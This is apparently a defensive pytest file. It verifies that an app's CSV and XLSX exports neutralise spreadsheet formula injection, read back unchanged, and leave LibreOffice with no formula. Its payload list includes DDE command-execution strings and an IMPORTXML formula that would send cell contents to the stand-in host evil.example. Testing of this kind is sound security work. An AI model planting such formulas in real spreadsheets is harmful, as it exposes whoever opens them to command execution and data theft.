"""What a spreadsheet program would run stays text, in every column, and comes back as it was (SECURITY: P6)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.exports.cells import plain_text, safe_cell
from app.exports.tables import Format, write_table
from app.exports.workbook import LONGEST_CELL

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"https://evil.example\",\"click\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "  \u00a0=1+1",
    "\u3000=1+1",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "“=1+1”",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "' ＝1+1",
    "=1+1;=2+2\n=3+3",
)  # fmt: skip
MADE: dict[str, Any] = {"title": "Sheet", "made_at": datetime(2026, 11, 23, 8, tzinfo=UTC)}
GENUINE = ("350.org", "Ժուռնալիստների «Ասպարեզ» ակումբ", "'t Gilde", "“Мемориал”", "A=B", "a - b", "+", "", "İ, ≡ °")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_and_can_be_read_back(payload: str) -> None:
    assert safe_cell(payload) == f"'{payload}"
    assert plain_text(safe_cell(payload)) == payload


@given(st.text(alphabet=st.sampled_from("='\"+-@\t\r\n ＝＋－＠ aЖ"), max_size=8) | st.text())
def test_every_text_can_be_read_back_and_none_begins_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert plain_text(cell) == text
    assert not cell.startswith(tuple("=+-@\t\r\n\0＝＋－＠"))


@pytest.mark.parametrize("wanted", Format)
def test_every_cell_of_a_file_is_text(wanted: Format) -> None:
    rows = [(payload, f"beside {payload}", genuine) for payload in PAYLOADS for genuine in GENUINE]
    file = io.BytesIO()
    assert write_table(file, wanted, ("one", "two", "three"), rows, **MADE) == len(rows)
    file.seek(0)
    if wanted is Format.CSV:
        assert file.getvalue().startswith(b"\xef\xbb\xbf")
        read = list(csv.reader(io.TextIOWrapper(file, encoding="utf-8-sig", newline="")))
        assert [tuple(map(plain_text, row)) for row in read[1:]] == rows
    else:
        sheet = load_workbook(file).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} == {"s"}
        held = [tuple(text.replace("\0", "\ufffd").replace("\r", "\n") for text in row) for row in rows]
        seen = sheet.iter_rows(min_row=2, values_only=True)
        assert [tuple((value or "").replace("\r", "\n") for value in row) for row in seen] == held


@pytest.mark.parametrize("wanted", Format)
def test_the_same_rows_of_the_same_moment_are_the_same_bytes(wanted: Format, clock: Any) -> None:
    files = []
    for _ in range(2):
        files.append(io.BytesIO())
        write_table(files[-1], wanted, ("one",), [("ա",)], **MADE)
        clock.shift(timedelta(days=1))
    assert files[0].getvalue() == files[1].getvalue()


def test_a_cell_longer_than_a_spreadsheet_can_hold_says_that_it_goes_on() -> None:
    file = io.BytesIO()
    write_table(file, Format.XLSX, ("one",), [("ա" * (LONGEST_CELL + 1),)], **MADE)
    value = load_workbook(file).active["A2"].value
    assert len(value) == LONGEST_CELL
    assert value.endswith("…")


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed on this machine")
@pytest.mark.parametrize("wanted", Format)
def test_libreoffice_finds_no_formula(wanted: Format, tmp_path: Path) -> None:
    """It opens the file and writes it again as flat XML, where every formula would have an attribute of its own."""
    with (tmp_path / f"export.{wanted}").open("w+b") as file:
        write_table(file, wanted, ("one", "two"), [(payload, payload) for payload in PAYLOADS], **MADE)
    command = [shutil.which("soffice") or "", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    subprocess.run([*command, "--convert-to", "fods", "--outdir", str(tmp_path), file.name], check=True, timeout=120)
    written = (tmp_path / "export.fods").read_text()
    assert "1+1" in written
    assert "table:formula" not in written
